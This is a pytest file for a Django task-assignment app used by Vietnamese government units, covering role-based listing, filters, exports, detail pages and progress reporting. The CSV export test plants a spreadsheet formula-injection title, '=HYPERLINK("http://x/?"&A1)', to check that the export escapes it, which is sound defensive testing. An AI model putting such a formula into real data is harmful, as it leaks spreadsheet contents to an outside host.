"""The task pages as their users meet them: list, filters, export, detail, assigning, reporting."""

import csv
import datetime
import io
import re

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from assignments.models import Task, TaskAttachment, TaskUpdate
from tests.agreements.factories import AgreementFactory, AgreementItemFactory
from tests.assignments.factories import TaskFactory, TaskUpdateFactory
from tests.assignments.helpers import page_ids, pdf, stored_files
from tests.directives.factories import DirectiveFactory
from tests.factories import OrganizationFactory
from tests.meetings.factories import MeetingFactory

pytestmark = pytest.mark.django_db
LIST = reverse("assignments:list")


def days(n):
    return timezone.localdate() + datetime.timedelta(days=n)


@pytest.fixture
def tasks(org_a, org_b, khoa_giao_fields):
    """A small world: unit A leads two tasks, supports one of unit B's, and B has one alone."""
    old = days(-60)
    return {
        "a_open": TaskFactory(
            title="Tuyên truyền Nghị quyết 71", lead=org_a, assigned_on=old, due_on=days(5)
        ),
        "a_overdue": TaskFactory(
            title="Báo cáo tuyển sinh lớp 10",
            lead=org_a,
            assigned_on=old,
            due_on=days(-2),
            field=khoa_giao_fields["giao_duc_dao_tao"],
        ),
        "b_with_a": TaskFactory(
            title="Sơ kết Nghị quyết 57", lead=org_b, cooperating=[org_a], assigned_on=old, due_on=days(40)
        ),
        "b_alone": TaskFactory(
            title="Kế hoạch y tế cơ sở", lead=org_b, assigned_on=old, due_on=days(-30), completed_on=days(-31)
        ),
    }


def ids(*tasks):
    return {t.pk for t in tasks}


def test_a_liaison_lists_only_its_units_tasks(login, liaison_a, tasks):
    response = login(liaison_a).get(LIST)
    assert response.status_code == 200
    assert page_ids(response) == ids(tasks["a_open"], tasks["a_overdue"], tasks["b_with_a"])
    assert "Kế hoạch y tế cơ sở" not in response.content.decode()


def test_staff_and_leaders_list_everything(login, staff_user, leader_user, tasks):
    for user in (staff_user, leader_user):
        assert page_ids(login(user).get(LIST)) == ids(*tasks.values())


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("unit_role=lead", ["a_open", "a_overdue"]),
        ("unit_role=cooperating", ["b_with_a"]),
        ("unit_role=", ["a_open", "a_overdue", "b_with_a"]),
    ],
)
def test_the_unit_filter_knows_lead_from_cooperating(login, staff_user, org_a, tasks, query, expected):
    response = login(staff_user).get(f"{LIST}?unit={org_a.pk}&{query}")
    assert page_ids(response) == ids(*(tasks[k] for k in expected))


def test_filters_by_bucket_overdue_due_within_and_field(login, staff_user, tasks, khoa_giao_fields):
    client = login(staff_user)
    assert page_ids(client.get(f"{LIST}?bucket=overdue")) == ids(tasks["a_overdue"])
    assert page_ids(client.get(f"{LIST}?overdue=on")) == ids(tasks["a_overdue"])
    assert page_ids(client.get(f"{LIST}?bucket=unfinished")) == ids(
        tasks["a_open"], tasks["a_overdue"], tasks["b_with_a"]
    )
    assert page_ids(client.get(f"{LIST}?bucket=done_on_time")) == ids(tasks["b_alone"])
    assert page_ids(client.get(f"{LIST}?due_within=7")) == ids(tasks["a_open"])
    field = khoa_giao_fields["giao_duc_dao_tao"]
    assert page_ids(client.get(f"{LIST}?field={field.pk}")) == ids(tasks["a_overdue"])


def test_filters_by_source(login, staff_user, org_a):
    directive = DirectiveFactory()
    meeting = MeetingFactory()
    item = AgreementItemFactory(agreement=AgreementFactory(partners=[org_a]), lead=org_a)
    from_directive = TaskFactory(lead=org_a, directive=directive)
    from_meeting = TaskFactory(lead=org_a, directive=None, meeting=meeting)
    from_item = TaskFactory(lead=org_a, directive=None, agreement_item=item)
    client = login(staff_user)
    assert page_ids(client.get(f"{LIST}?source_type=meeting")) == ids(from_meeting)
    assert page_ids(client.get(f"{LIST}?source_type=agreement")) == ids(from_item)
    assert page_ids(client.get(f"{LIST}?source=directive:{directive.pk}")) == ids(from_directive)
    assert page_ids(client.get(f"{LIST}?source=agreement:{item.agreement_id}")) == ids(from_item)


def test_a_liaison_is_not_offered_other_units_sources_or_units(login, liaison_a, tasks):
    hidden_directive = tasks["b_alone"].directive
    response = login(liaison_a).get(LIST)
    choices = dict(response.context["filter"].form.fields["source"].choices)
    offered = {
        value for _group, options in choices.items() if isinstance(options, list) for value, _ in options
    }
    assert f"directive:{hidden_directive.pk}" not in offered
    units = set(response.context["filter"].form.fields["unit"].queryset)
    assert units == {tasks["a_open"].lead, tasks["b_with_a"].lead}


def test_a_source_the_user_may_not_see_is_ignored_not_applied(login, liaison_a, tasks):
    response = login(liaison_a).get(f"{LIST}?source=directive:{tasks['b_alone'].directive_id}")
    assert response.status_code == 200
    assert "source" in response.context["filter"].form.errors
    assert page_ids(response) == ids(tasks["a_open"], tasks["a_overdue"], tasks["b_with_a"])


def test_search_ignores_accents_and_case(login, staff_user, tasks):
    response = login(staff_user).get(f"{LIST}?q=TUYEN+sinh")
    assert page_ids(response) == ids(tasks["a_overdue"])


def test_the_list_is_paged(login, staff_user, org_a):
    TaskFactory.create_batch(30, lead=org_a)
    client = login(staff_user)
    first, second = client.get(LIST), client.get(f"{LIST}?page=2")
    assert len(page_ids(first)) == 25
    assert len(page_ids(second)) == 5
    assert not page_ids(first) & page_ids(second)


def test_overdue_and_open_come_first_by_default(login, staff_user, tasks):
    response = login(staff_user).get(LIST)
    order = [int(pk) for pk in re.findall(r'data-task-id="(\d+)"', response.content.decode())]
    assert order[0] == tasks["a_overdue"].pk
    assert order[-1] == tasks["b_alone"].pk


def test_a_liaison_filters_by_its_own_role_without_naming_its_unit(login, liaison_a, tasks):
    client = login(liaison_a)
    assert page_ids(client.get(f"{LIST}?unit_role=lead")) == ids(tasks["a_open"], tasks["a_overdue"])
    assert page_ids(client.get(f"{LIST}?unit_role=cooperating")) == ids(tasks["b_with_a"])


def test_csv_export_holds_exactly_the_filtered_visible_rows_escaped(login, liaison_a, org_a, tasks):
    TaskFactory(title='=HYPERLINK("http://x/?"&A1)', lead=org_a)
    response = login(liaison_a).get(reverse("assignments:export") + "?format=csv&unit_role=lead")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][0] == "STT"
    exported = {int(row[0]) for row in rows[1:]}
    lead_tasks = set(Task.objects.filter(lead=org_a).values_list("id", flat=True))
    assert exported == lead_tasks
    titles = [row[1] for row in rows[1:]]
    assert '\'=HYPERLINK("http://x/?"&A1)' in titles
    overdue = next(row for row in rows if row[0] == str(tasks["a_overdue"].pk))
    assert overdue[7] == days(-2).strftime("%d/%m/%Y")
    assert overdue[9] == "Chưa hoàn thành, quá hạn"


def test_xlsx_export_matches_the_list(login, liaison_a, tasks):
    response = login(liaison_a).get(reverse("assignments:export") + "?format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert {row[0] for row in rows[1:]} == ids(tasks["a_open"], tasks["a_overdue"], tasks["b_with_a"])
    due = next(row for row in rows[1:] if row[0] == tasks["a_open"].pk)[7]
    assert due.date() == tasks["a_open"].due_on
    supported = next(row for row in rows[1:] if row[0] == tasks["b_with_a"].pk)
    assert supported[3] == tasks["b_with_a"].lead.name
    assert supported[4] == tasks["b_with_a"].cooperating.get().name
    assert next(row for row in rows[1:] if row[0] == tasks["a_open"].pk)[4] is None  # none: empty cell


def test_detail_shows_sources_units_progress_rule_timeline_and_history(
    login, staff_user, liaison_b, org_a, tasks
):
    task = tasks["b_with_a"]
    TaskUpdateFactory(task=task, posted_by=liaison_b, text="Đã gửi đề cương sơ kết", progress=40)
    body = login(staff_user).get(reverse("assignments:detail", args=[task.pk])).content.decode()
    assert reverse("directives:detail", args=[task.directive_id]) in body
    assert task.lead.name in body
    assert org_a.name in body
    assert "Tiến độ là tỷ lệ phần trăm mới nhất do đơn vị chủ trì báo cáo" in body
    assert "Đã gửi đề cương sơ kết" in body
    assert "Lịch sử thay đổi" in body
    assert "Chưa hoàn thành, còn trong hạn" in body


def test_a_liaison_sees_a_classified_directive_as_a_number_without_a_link(login, liaison_a, org_a):
    secret = DirectiveFactory(classification="mat", title="")
    task = TaskFactory(lead=org_a, directive=secret)
    body = login(liaison_a).get(reverse("assignments:detail", args=[task.pk])).content.decode()
    assert secret.number in body
    assert reverse("directives:detail", args=[secret.pk]) not in body


def test_staff_assign_one_task_to_several_units_through_the_form(login, staff_user, org_a, org_b):
    directive = DirectiveFactory()
    response = login(staff_user).post(
        reverse("assignments:create"),
        {
            "title": "Tuyên truyền Nghị quyết 72-NQ/TW",
            "directive": directive.pk,
            "leads": [org_a.pk, org_b.pk],
            "assigned_on": days(0).strftime("%d/%m/%Y"),
            "due_on": days(30).strftime("%d/%m/%Y"),
        },
    )
    assert response.status_code == 302
    created = Task.objects.filter(title="Tuyên truyền Nghị quyết 72-NQ/TW")
    assert {t.lead for t in created} == {org_a, org_b}
    assert all(t.due_on == days(30) for t in created)


def test_a_bad_form_keeps_what_was_typed_and_says_why_in_vietnamese(login, staff_user, org_a):
    response = login(staff_user).post(
        reverse("assignments:create"),
        {
            "title": "Nhiệm vụ chưa có nguồn",
            "leads": [org_a.pk],
            "assigned_on": "31/02/2026",
            "due_on": "01/01/2026",
        },
    )
    body = response.content.decode()
    assert response.status_code == 200
    assert "Nhiệm vụ chưa có nguồn" in body
    assert "dd/mm/yyyy" in body
    assert "Hãy ghi nguồn của nhiệm vụ" in body
    assert not Task.objects.exists()


def test_the_lead_liaison_reports_progress_with_a_file(login, liaison_b, tasks, private_root):
    task = tasks["b_with_a"]
    response = login(liaison_b).post(
        reverse("assignments:update", args=[task.pk]),
        {"text": "Đã nhận báo cáo của 6/8 đơn vị", "progress": "70", "files": [pdf("Báo cáo sơ kết.pdf")]},
    )
    assert response.status_code == 302
    update = TaskUpdate.objects.get(task=task)
    assert (update.progress, update.organization, update.posted_by) == (70, task.lead, liaison_b)
    attachment = TaskAttachment.objects.get(update=update)
    assert attachment.original_name == "Báo cáo sơ kết.pdf"
    assert len(stored_files(private_root)) == 1
    task.refresh_from_db()
    assert task.progress == 70


def test_a_cooperating_liaison_gets_a_form_without_percentage(login, liaison_a, tasks):
    response = login(liaison_a).get(reverse("assignments:update", args=[tasks["b_with_a"].pk]))
    form = response.context["form"]
    assert "progress" not in form.fields
    assert "marks_done" not in form.fields
    assert "đơn vị phối hợp" in response.content.decode()


def test_staff_cancel_and_reopen_from_the_detail_page(login, staff_user, tasks):
    task = tasks["a_open"]
    client = login(staff_user)
    client.post(reverse("assignments:cancel", args=[task.pk]), {"reason": "Trùng với nhiệm vụ khác"})
    task.refresh_from_db()
    assert task.cancelled_on == timezone.localdate()
    body = client.get(reverse("assignments:detail", args=[task.pk])).content.decode()
    assert "Trùng với nhiệm vụ khác" in body
    assert "Đã hủy" in body
    client.post(reverse("assignments:reopen", args=[task.pk]))
    task.refresh_from_db()
    assert task.cancelled_on is None


def test_unit_home_lists_open_tasks_overdue_first_with_counts(login, liaison_a, tasks):
    response = login(liaison_a).get("/")
    assert response.status_code == 200
    body = response.content.decode()
    order = [int(pk) for pk in re.findall(r'data-task-id="(\d+)"', body)]
    assert order == [tasks["a_overdue"].pk, tasks["a_open"].pk, tasks["b_with_a"].pk]
    counts = dict(re.findall(r'data-count="(\w+)">(\d+)<', body))
    assert counts == {"overdue": "1", "open": "2", "done_late": "0", "done_on_time": "0", "cancelled": "0"}
    assert "Nhiệm vụ của Sở GD&amp;ĐT" in body
    # The cards count every year, unlike the figures for this year above them: they say so.
    assert "Mọi nhiệm vụ của đơn vị theo tình trạng, tính cả các năm trước" in body


def test_a_liaison_without_a_unit_sees_an_empty_home(login, org_a):
    from tests.factories import UserFactory

    orphan = UserFactory(username="no_unit", role="liaison", organization=None)
    TaskFactory(lead=org_a)
    response = login(orphan).get("/")
    assert response.status_code == 200
    assert page_ids(response) == set()


def test_another_units_new_task_is_not_counted(login, liaison_a, tasks):
    OrganizationFactory(code="so-c")
    TaskFactory(lead=OrganizationFactory(code="so-c"), due_on=days(-5), assigned_on=days(-10))
    body = login(liaison_a).get("/").content.decode()
    assert 'data-count="overdue">1<' in body


def test_the_list_orders_and_filters_by_bucket_at_the_edges_of_the_day(login, staff_user, org_a):
    """The default order, whose rank is indexed without the day in it (ATTENTION_RANK): overdue
    tasks, then open ones (both by due date: yesterday's deadline before today's), then done late,
    done on time, cancelled, each by due date."""
    states = {
        "open": {},
        "done on time": {"completed_on": days(-40)},
        "done late": {"completed_on": days(3)},
        "cancelled": {"cancelled_on": days(-40)},
    }
    for offset in (-30, -1, 0, 1, 20):
        for state in states.values():
            TaskFactory(lead=org_a, assigned_on=days(-60), due_on=days(offset), **state)
    rank = ["overdue", "open", "done_late", "done_on_time", "cancelled"]
    today = timezone.localdate()
    expected = [
        task.pk
        for task in sorted(
            Task.objects.all(), key=lambda t: (rank.index(t.bucket_on(today).value), t.due_on, t.pk)
        )
    ]
    body = login(staff_user).get(LIST, {"per_page": 100}).content.decode()
    shown = [int(pk) for pk in re.findall(r'data-task-id="(\d+)"', body)]
    assert shown == expected[: len(shown)]
    assert len(shown) >= 20

    client = login(staff_user)
    for bucket in rank:
        want = {t.pk for t in Task.objects.all() if t.bucket_on(today).value == bucket}
        assert page_ids(client.get(LIST, {"bucket": bucket, "per_page": 100})) == want, bucket
    unfinished = {t.pk for t in Task.objects.all() if t.bucket_on(today).value in ("open", "overdue")}
    assert page_ids(client.get(LIST, {"bucket": "unfinished", "per_page": 100})) == unfinished


def test_a_cooperating_liaisons_percentage_is_not_recorded_and_it_is_told_why(login, liaison_a, tasks):
    """A page opened while the unit still led the task (or a browser's remembered form) sends a
    % with the report: the report is kept, the % is not the unit's to set, and the page says so
    with the figure typed, so that nothing is silently lost."""
    task = tasks["b_with_a"]
    before = task.progress
    client = login(liaison_a)
    url = reverse("assignments:update", args=[task.pk])
    response = client.post(url, {"text": "Đã tổ chức 3 buổi tuyên truyền", "progress": "50"}, follow=True)
    assert response.redirect_chain[-1][0] == reverse("assignments:detail", args=[task.pk]) + "#timeline"
    update = TaskUpdate.objects.get(task=task)
    assert (update.text, update.progress, update.organization) == (
        "Đã tổ chức 3 buổi tuyên truyền",
        None,
        liaison_a.organization,
    )
    task.refresh_from_db()
    assert task.progress == before
    body = response.content.decode()
    assert "Đã gửi báo cáo tiến độ" in body
    assert "Không được ghi: tiến độ 50 %" in body
    assert "đơn vị chủ trì" in body

    response = client.post(url, {"text": "Đã xong phần việc", "marks_done": "on"}, follow=True)
    assert "Không được ghi: “Đã hoàn thành nhiệm vụ”" in response.content.decode()
    task.refresh_from_db()
    assert task.completed_on is None
